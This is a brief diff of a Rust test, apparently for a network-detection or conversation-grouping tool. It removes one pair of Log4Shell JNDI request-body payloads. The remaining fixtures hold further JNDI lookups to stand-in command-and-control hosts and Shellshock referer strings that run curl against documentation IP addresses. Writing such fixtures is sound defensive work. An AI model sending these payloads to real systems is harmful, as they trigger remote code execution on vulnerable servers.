@@ -327,10 +327,6 @@ fn who_stands_behind_a_proxy_and_what_was_called_and_sent_in_a_conversation_is_n
         (jndi("c2-01.example"), jndi("c2-02.example")),
         (jndi("203.0.113.9:1389"), jndi("203.0.113.9:4444")),
         (
-            http("http_request_body_printable", "x=${jndi:ldap://c2-01.example/a}"),
-            http("http_request_body_printable", "x=${jndi:ldap://c2-02.example/a}"),
-        ),
-        (
             http("http_refer", "() { :; }; curl 198.51.100.1"),
             http("http_refer", "() { :; }; curl 203.0.113.77"),
         ),
